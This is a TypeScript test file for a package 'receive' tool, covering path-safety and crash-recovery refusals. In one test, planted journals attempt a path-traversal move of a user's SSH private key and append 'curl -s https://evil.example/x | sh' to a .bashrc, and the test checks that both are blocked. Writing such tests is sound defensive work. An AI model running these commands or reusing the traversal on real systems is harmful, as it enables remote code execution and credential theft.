/**
 * Issue 12, "A failed receive leaves the world usable": every refusal is found before the
 * journal's commit point (and by --dry-run), and what cannot be finished never blocks the world.
 */
import { afterAll, describe, it, expect } from 'vitest';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { receivePackage } from '../../scripts/lib/receive/receive.ts';
import type { AliveError } from '../../scripts/lib/errors.ts';
import { processStartTime } from '../../scripts/lib/fs/lock.ts';
import { preflight } from '../../scripts/lib/receive/preflight.ts';
import { regeneratedNow } from '../../scripts/lib/world/now.ts';
import { runCaptured } from '../../scripts/lib/cli/command.ts';
import { receiveCommand } from '../../scripts/lib/receive/commands/receive.ts';
import { makeWalnut, makeWorld, testEnv, tmp, tree, writePackage, v2Manifest, type PackageFiles } from './helpers.ts';

const MAX = 1 << 30;
const full: PackageFiles = { '_kernel/key.md': '---\ngoal: g\n---\n', 'bundles/a/context.manifest.yaml': 'goal: a\n', 'bundles/a/x.md': 'x\n' };
const bundle: PackageFiles = { 'bundles/b/context.manifest.yaml': 'goal: b\n', 'bundles/b/y.md': 'y\n' };

async function fullPkg(base: string, name = 'garden', extra: PackageFiles = {}): Promise<string> {
  // Each name its own content: a package is identified by what it holds (signer, created, files).
  const files = { ...full, '_kernel/insights.md': `insights of ${name}\n`, ...extra };
  return writePackage(join(base, `${name}.walnut`), v2Manifest(name, 'full', files), files);
}

async function bundlePkg(base: string): Promise<string> {
  return writePackage(join(base, 'b.walnut'), v2Manifest('garden', 'bundle', bundle, { bundles: ['b'] }), bundle);
}

describe('refusals come before the commit point, and --dry-run predicts them', () => {
  it('a file named 03_Inbox: dry run and real run refuse alike, nothing is written, and the world stays usable', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2', inbox: null });
    writeFileSync(join(world, '03_Inbox'), 'not a folder\n');
    const pkg = await fullPkg(base);
    const before = tree(world);
    await expect(receivePackage({ packagePath: pkg, world, maxBytes: MAX, env, dryRun: true })).rejects.toMatchObject({
      code: 'no_target',
      message: expect.stringMatching(/03_Inbox.*not a folder/),
    });
    await expect(receivePackage({ packagePath: pkg, world, maxBytes: MAX, env })).rejects.toMatchObject({ code: 'no_target' });
    expect(tree(world)).toEqual(before);
    // Nothing was left half-done: the next receive (elsewhere) just works.
    const r = await receivePackage({ packagePath: pkg, world, into: '04_Ventures', maxBytes: MAX, env });
    expect(r.walnut).toBe(join(world, '04_Ventures', 'garden'));
  });

  it('a damaged imports.json stops the receive before anything moves, with --force and with --dry-run too', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2' });
    writeFileSync(join(world, '.alive', 'imports.json'), '{"imports": [{"package_sha256": 5}]}');
    const pkg = await fullPkg(base);
    const before = tree(world);
    for (const mode of [{ force: true }, { dryRun: true }, { dryRun: true, force: true }]) {
      await expect(receivePackage({ packagePath: pkg, world, maxBytes: MAX, env, ...mode })).rejects.toMatchObject({ code: 'ledger' });
      expect(tree(world)).toEqual(before);
    }
  });

  it('a v2 walnut whose bundles/ is a file is refused up front (dry run too)', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base);
    const walnut = makeWalnut(join(world, '04_Ventures', 'w'), { layout: 'v2' });
    rmSync(join(walnut, 'bundles'), { recursive: true });
    writeFileSync(join(walnut, 'bundles'), 'oops\n');
    const pkg = await bundlePkg(base);
    const before = tree(world);
    await expect(receivePackage({ packagePath: pkg, world, into: '04_Ventures/w', maxBytes: MAX, env, dryRun: true })).rejects.toMatchObject({
      code: 'no_target',
    });
    await expect(receivePackage({ packagePath: pkg, world, into: '04_Ventures/w', maxBytes: MAX, env })).rejects.toMatchObject({ code: 'no_target' });
    expect(tree(world)).toEqual(before);
  });
});

describe('files the receiver reads in the world are read only when they are small regular files', () => {
  it.skipIf(process.platform === 'win32')(
    'a FIFO key.md in the target walnut is refused up front (dry run too), and now.json is regenerated without waiting on it',
    async () => {
      const base = tmp();
      const env = testEnv(base);
      const world = makeWorld(base, { layout: 'v2' });
      const walnut = join(world, '04_Ventures', 'existing');
      rmSync(join(walnut, '_kernel', 'key.md'));
      execFileSync('mkfifo', [join(walnut, '_kernel', 'key.md')]);
      const pkg = await bundlePkg(base);
      const before = tree(world);
      for (const mode of [{ dryRun: true }, {}]) {
        await expect(receivePackage({ packagePath: pkg, world, into: '04_Ventures/existing', maxBytes: MAX, env, ...mode })).rejects.toMatchObject({
          code: 'no_target',
          message: expect.stringMatching(/04_Ventures\/existing\/_kernel\/key\.md .*not a regular file.*Nothing was written/),
        });
        expect(tree(world)).toEqual(before);
      }
      // A recovery replaying the now.json step reads key.md the same way: it does not wait on the FIFO.
      expect(regeneratedNow(walnut, 'v2', { timestamp: 't', session: 's', context: 'c' })).toMatchObject({ phase: 'received' });
    },
  );

  it.skipIf(process.platform === 'win32')('a FIFO imports.json is a ledger that cannot be read, not a wait', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2' });
    execFileSync('mkfifo', [join(world, '.alive', 'imports.json')]);
    const pkg = await fullPkg(base);
    const before = tree(world);
    for (const mode of [{ dryRun: true }, {}]) {
      await expect(receivePackage({ packagePath: pkg, world, maxBytes: MAX, env, ...mode })).rejects.toMatchObject({
        code: 'ledger',
        message: expect.stringMatching(/imports\.json is not a regular file/),
      });
      expect(tree(world)).toEqual(before);
    }
  });
});

describe('one inside-the-world check for every folder a receive writes into', () => {
  it('refuses a symlinked 03_Inbox that leads out of the world (dry run and real run), writing nothing outside', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2', inbox: null });
    const elsewhere = join(base, 'elsewhere');
    mkdirSync(elsewhere);
    symlinkSync('../elsewhere', join(world, '03_Inbox'));
    const pkg = await fullPkg(base);
    await expect(receivePackage({ packagePath: pkg, world, maxBytes: MAX, env, dryRun: true })).rejects.toMatchObject({ code: 'outside_world' });
    await expect(receivePackage({ packagePath: pkg, world, maxBytes: MAX, env })).rejects.toMatchObject({ code: 'outside_world' });
    expect(readdirSync(elsewhere)).toEqual([]);
  });

  it('refuses a v2 walnut whose bundles/ is a symlink out of the world', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base);
    const walnut = makeWalnut(join(world, '04_Ventures', 'w'), { layout: 'v2' });
    const elsewhere = join(base, 'elsewhere');
    mkdirSync(elsewhere);
    rmSync(join(walnut, 'bundles'), { recursive: true });
    symlinkSync(elsewhere, join(walnut, 'bundles'));
    const pkg = await bundlePkg(base);
    await expect(receivePackage({ packagePath: pkg, world, into: '04_Ventures/w', maxBytes: MAX, env, dryRun: true })).rejects.toMatchObject({
      code: 'outside_world',
    });
    await expect(receivePackage({ packagePath: pkg, world, into: '04_Ventures/w', maxBytes: MAX, env })).rejects.toMatchObject({ code: 'outside_world' });
    expect(readdirSync(elsewhere)).toEqual([]);
  });

  it('refuses a walnut whose _kernel/ is a symlink out of the world (its log.md would be written there)', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base);
    const outside = makeWalnut(join(base, 'outside'), { layout: 'v3', log: '---\nwalnut: outside\n---\n' });
    const walnut = join(world, '04_Ventures', 'w');
    mkdirSync(walnut);
    symlinkSync(join(outside, '_kernel'), join(walnut, '_kernel'));
    const pkg = await bundlePkg(base);
    const before = tree(outside);
    await expect(receivePackage({ packagePath: pkg, world, into: '04_Ventures/w', maxBytes: MAX, env })).rejects.toMatchObject({ code: 'outside_world' });
    expect(tree(outside)).toEqual(before);
  });
});

/**
 * A folder on another file system than the temporary folder's, if this machine has one: /dev/shm
 * (a tmpfs) when the temporary folder is on disk, a disk folder when the run is in memory
 * (test/support/global-setup.ts). Removed after the file.
 */
function otherFileSystem(): string | undefined {
  const tmpDevice = statSync(tmpdir()).dev;
  for (const candidate of ['/dev/shm', '/var/tmp', '/tmp']) {
    try {
      if (statSync(candidate).dev === tmpDevice) continue;
      const dir = mkdtempSync(join(candidate, 'alive-xdev-'));
      afterAll(() => rmSync(dir, { recursive: true, force: true }));
      return dir;
    } catch {}
  }
  return undefined;
}

describe('staging on another file system than the targets', () => {
  const other = otherFileSystem();
  it.skipIf(!other)('.alive/ on another file system (rename would give EXDEV): full and bundle receives stage beside the target and finish', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2' });
    rmSync(join(world, '.alive'), { recursive: true });
    symlinkSync(other!, join(world, '.alive'));
    const r = await receivePackage({ packagePath: await fullPkg(base), world, maxBytes: MAX, env });
    expect(readFileSync(join(r.walnut!, 'bundles', 'a', 'x.md'), 'utf8')).toBe('x\n');
    const b = await receivePackage({ packagePath: await bundlePkg(base), world, into: '04_Ventures/existing', maxBytes: MAX, env });
    expect(b.imported).toEqual([join(world, '04_Ventures', 'existing', 'bundles', 'b')]);
    expect(readFileSync(join(world, '04_Ventures', 'existing', 'bundles', 'b', 'y.md'), 'utf8')).toBe('y\n');
    // No staging left anywhere, on either file system.
    expect(readdirSync(join(world, '03_Inbox')).filter((n) => n.startsWith('.'))).toEqual([]);
    expect(readdirSync(join(world, '04_Ventures', 'existing', 'bundles')).filter((n) => n.startsWith('.'))).toEqual([]);
    expect(existsSync(join(other!, 'receiving'))).toBe(false);
    expect(JSON.parse(readFileSync(join(other!, 'imports.json'), 'utf8')).imports).toHaveLength(2);
  });
});

describe('the file-system check (any machine: devices injected)', () => {
  it('stages beside the targets when they are on another device than staging, and refuses targets on two devices', () => {
    const base = tmp();
    const world = makeWorld(base, { layout: 'v2' });
    const staging = join(world, '.alive');
    const onOther = (p: string) => (p.startsWith(staging) ? 1 : 2);
    const writes = { mkdirs: [], moves: ['03_Inbox/garden'], files: [], state: ['.alive'] };
    expect(preflight(world, writes, staging, () => 1)).toEqual({});
    expect(preflight(world, writes, staging, onOther)).toEqual({ stageIn: '03_Inbox' });
    // A target whose domain is still to be made: beside it means in the nearest folder that exists.
    rmSync(join(world, '03_Inbox'), { recursive: true });
    expect(preflight(world, { ...writes, mkdirs: ['03_Inbox'] }, staging, onOther)).toEqual({ stageIn: '.' });
    const split = (p: string) => (p.startsWith(staging) ? 1 : p.includes('04_Ventures') ? 3 : 2);
    expect(() => preflight(world, { ...writes, moves: ['02_Life/a', '04_Ventures/b'] }, staging, split)).toThrow(/different file systems/);
  });

  it('refuses a .alive/held-back on another device than the staging folder (a mount there): its rename comes after the commit point', () => {
    const base = tmp();
    const world = makeWorld(base, { layout: 'v2' });
    const staging = join(world, '.alive');
    const heldBack = join(staging, 'held-back');
    mkdirSync(heldBack);
    const writes = { mkdirs: [], moves: ['03_Inbox/garden'], files: [], state: ['.alive', '.alive/held-back'] };
    expect(preflight(world, writes, staging, () => 1)).toEqual({});
    const mounted = (p: string) => (p.startsWith(heldBack) ? 2 : 1);
    expect(() => preflight(world, writes, staging, mounted)).toThrow(/\.alive\/held-back is on another file system than \.alive\/receiving/);
  });
});

/** A journal of the shape receive writes, with the given steps. */
const journalText = (id: string, steps: { moves?: unknown[]; mkdirs?: string[]; log?: unknown; target?: string }) =>
  JSON.stringify({
    version: 1,
    id,
    package_sha256: 'e'.repeat(64),
    target: steps.target ?? '05_Experiments/x',
    mkdirs: steps.mkdirs ?? [],
    moves: steps.moves ?? [],
    log: steps.log ?? null,
    now: null,
    ledger: {
      package_sha256: 'e'.repeat(64),
      format_version: '2.0.0',
      walnut: 'x',
      scope: 'full',
      created: null,
      sender: null,
      signer: null,
      signature_verified: false,
      received_at: '2026-01-01T00:00:00Z',
      source: '/x.walnut',
      target: steps.target ?? '05_Experiments/x',
      imported: [],
      conflicts: [],
      receipt: id,
    },
    result: {},
  });

describe('a roll-forward that cannot finish', () => {
  it('does not block other receives, and says how to finish or discard it', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2' });
    const staging = join(world, '.alive', 'receiving', 'stuck-1');
    mkdirSync(join(staging, 'out', 'walnut', '_kernel'), { recursive: true });
    writeFileSync(join(staging, 'out', 'walnut', '_kernel', 'key.md'), 'k\n');
    // Its destination's parent is a file: the move can never happen.
    writeFileSync(join(world, '05_Experiments', 'blocker'), 'a file\n');
    writeFileSync(
      join(staging, 'journal.json'),
      journalText('stuck-1', { target: '05_Experiments/blocker/w', moves: [{ from: 'out/walnut', to: '05_Experiments/blocker/w' }] }),
    );
    const r = await receivePackage({ packagePath: await fullPkg(base), world, maxBytes: MAX, env });
    expect(existsSync(join(r.walnut!, '_kernel', 'key.md'))).toBe(true);
    const note = r.notes.join('\n');
    expect(note).toMatch(/stuck-1/);
    expect(note).toMatch(/cannot be finished/);
    expect(note).toContain(staging);
    expect(note).toMatch(/to discard it/);
    expect(existsSync(join(staging, 'journal.json'))).toBe(true); // kept for the user to decide
    // A second one goes through as well.
    const again = await receivePackage({ packagePath: await fullPkg(join(base), 'other'), world, maxBytes: MAX, env });
    expect(again.walnut).toBe(join(world, '03_Inbox', 'other'));
  });
});

describe('leftovers planted by someone who can write the world (a synced folder)', () => {
  it('a leftover that keeps held-back files under a linked .alive/ (another file system) is still finished', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2' });
    const elsewhere = join(base, 'alive-elsewhere');
    renameSync(join(world, '.alive'), elsewhere);
    symlinkSync(elsewhere, join(world, '.alive'));
    const staging = join(elsewhere, 'receiving', 'left-1');
    mkdirSync(join(staging, 'out', 'walnut', '_kernel'), { recursive: true });
    writeFileSync(join(staging, 'out', 'walnut', '_kernel', 'key.md'), 'k\n');
    mkdirSync(join(staging, 'held'), { recursive: true });
    writeFileSync(join(staging, 'held', '1.held'), 'agent file\n');
    writeFileSync(
      join(staging, 'journal.json'),
      journalText('left-1', {
        moves: [
          { from: 'out/walnut', to: '05_Experiments/x' },
          { from: 'held/1.held', to: '.alive/held-back/left-1/1.held' },
        ],
      }),
    );
    const r = await receivePackage({ packagePath: await fullPkg(base), world, maxBytes: MAX, env });
    expect(r.notes.join('\n')).toMatch(/finished an interrupted receive of 05_Experiments\/x \(left-1\)/);
    expect(readFileSync(join(elsewhere, 'held-back', 'left-1', '1.held'), 'utf8')).toBe('agent file\n');
  });

  it('a world whose .alive is a file: receive says it cannot read imports.json (a clear refusal, not an unexpected failure)', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2' });
    rmSync(join(world, '.alive'), { recursive: true });
    writeFileSync(join(world, '.alive'), 'not a folder\n');
    const err = await receivePackage({ packagePath: await fullPkg(base), world, maxBytes: MAX, env }).then(
      () => undefined,
      (e: AliveError) => e,
    );
    expect(err?.code).toBe('ledger');
    expect(err?.message).toMatch(/imports\.json cannot be read \(ENOTDIR\)/);
  });

  it('a linked .alive/receiving is refused before anything is deleted or staged through it', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2' });
    const documents = join(base, 'Documents');
    mkdirSync(join(documents, 'taxes'), { recursive: true });
    writeFileSync(join(documents, 'taxes', '2025.pdf'), 'mine\n');
    symlinkSync('../../Documents', join(world, '.alive', 'receiving'));
    await expect(receivePackage({ packagePath: await fullPkg(base), world, maxBytes: MAX, env })).rejects.toThrow(/receiving.* is a link/);
    expect(readFileSync(join(documents, 'taxes', '2025.pdf'), 'utf8')).toBe('mine\n');
    expect(readdirSync(documents)).toEqual(['taxes']);
  });

  it('a planted journal moves nothing from outside its staging folder, and writes nothing through a link out of the world', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2' });
    const home = join(base, 'home');
    mkdirSync(join(home, '.ssh'), { recursive: true });
    writeFileSync(join(home, '.ssh', 'id_ed25519'), 'secret key\n');
    writeFileSync(join(home, '.bashrc'), 'export A=1\n');
    symlinkSync('../../home', join(world, '02_Life', 'shortcut'));
    const receiving = join(world, '.alive', 'receiving');
    mkdirSync(join(receiving, 'planted-1'), { recursive: true });
    const reachOut = `${'../'.repeat(8)}${home.slice(1)}/.ssh/id_ed25519`;
    writeFileSync(join(receiving, 'planted-1', 'journal.json'), journalText('planted-1', { moves: [{ from: reachOut, to: '04_Ventures/stolen_key' }] }));
    mkdirSync(join(receiving, 'planted-2'), { recursive: true });
    writeFileSync(
      join(receiving, 'planted-2', 'journal.json'),
      journalText('planted-2', {
        log: { path: '02_Life/shortcut/.bashrc', entry: 'curl -s https://evil.example/x | sh\n', walnut: 'x', timestamp: '2026-01-01T00:00:00Z', summary: 's' },
      }),
    );
    // A FIFO in a journal's place would hold the receive (and the world's lock) for good.
    mkdirSync(join(receiving, 'planted-3'), { recursive: true });
    execFileSync('mkfifo', [join(receiving, 'planted-3', 'journal.json')]);
    const r = await receivePackage({ packagePath: await fullPkg(base), world, maxBytes: MAX, env });
    expect(r.notes.join('\n')).toMatch(/planted-3.*cannot be finished: journal\.json is not a regular file/);
    expect(readFileSync(join(home, '.ssh', 'id_ed25519'), 'utf8')).toBe('secret key\n');
    expect(existsSync(join(world, '04_Ventures', 'stolen_key'))).toBe(false);
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('export A=1\n');
    const note = r.notes.join('\n');
    expect(note).toMatch(/planted-1.*cannot be finished/);
    expect(note).toMatch(/planted-2.*cannot be finished/);
  });
});

describe('receive.lock cannot outlive its process', () => {
  const initStart = processStartTime(1);
  it.skipIf(initStart === undefined)('a lock whose pid now belongs to another process (pid reused) is stale and taken over', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2' });
    // pid 1 is alive, but it is not the process that took this lock: its start time differs.
    writeFileSync(join(world, '.alive', 'receive.lock'), JSON.stringify({ pid: 1, start: String(Number(initStart) + 12345) }));
    const r = await receivePackage({ packagePath: await fullPkg(base), world, maxBytes: MAX, env });
    expect(r.walnut).toBe(join(world, '03_Inbox', 'garden'));
    expect(existsSync(join(world, '.alive', 'receive.lock'))).toBe(false);
  });

  it.skipIf(initStart === undefined)('a lock held by a live process with the same start time still blocks', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2' });
    writeFileSync(join(world, '.alive', 'receive.lock'), JSON.stringify({ pid: 1, start: initStart }));
    await expect(receivePackage({ packagePath: await fullPkg(base), world, maxBytes: MAX, env })).rejects.toMatchObject({ code: 'busy' });
  });
});

describe('finding the world like the hooks do', () => {
  it('walks up from the current folder, else ALIVE_WORLD_ROOT, else says how to name it', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2' });
    const inside = await receivePackage({ packagePath: await fullPkg(base), cwd: join(world, '04_Ventures', 'existing', 'bundles'), maxBytes: MAX, env });
    expect(inside.walnut).toBe(join(world, '03_Inbox', 'garden'));
    const nowhere = tmp('nowhere');
    const viaEnv = await receivePackage({ packagePath: await fullPkg(base, 'two'), cwd: nowhere, maxBytes: MAX, env: { ...env, ALIVE_WORLD_ROOT: world } });
    expect(viaEnv.walnut).toBe(join(world, '03_Inbox', 'two'));
    await expect(
      receivePackage({ packagePath: await fullPkg(base, 'three'), cwd: nowhere, maxBytes: MAX, env: { ...env, ALIVE_WORLD_ROOT: '' } }),
    ).rejects.toMatchObject({
      code: 'no_world',
      message: expect.stringMatching(/--world/),
    });
  });
});

describe('the layout a walnut lands in, and why', () => {
  it('is in the result and the human output', async () => {
    const base = tmp();
    const env = testEnv(base);
    const world = makeWorld(base, { layout: 'v2' });
    const r = await receivePackage({ packagePath: await fullPkg(base), world, maxBytes: MAX, env });
    expect(r.layout).toBe('v2');
    expect(r.layout_reason).toMatch(/most walnuts of this world/);
    const bpkg = await bundlePkg(base);
    const b = await receivePackage({ packagePath: bpkg, world, into: '04_Ventures/existing', maxBytes: MAX, env, dryRun: true });
    expect(b.layout).toBe('v2');
    expect(b.layout_reason).toMatch(/bundles\//);
    const prior = process.env.ALIVE_HOME;
    process.env.ALIVE_HOME = env.ALIVE_HOME;
    try {
      const out = await runCaptured(receiveCommand, [bpkg, '--world', world, '--into', '04_Ventures/existing', '--dry-run']);
      expect(out.code, out.stderr).toBe(0);
      expect(out.stdout).toMatch(/layout: v2 \(.*bundles\/.*\)/);
    } finally {
      if (prior === undefined) delete process.env.ALIVE_HOME;
      else process.env.ALIVE_HOME = prior;
    }
  });
});
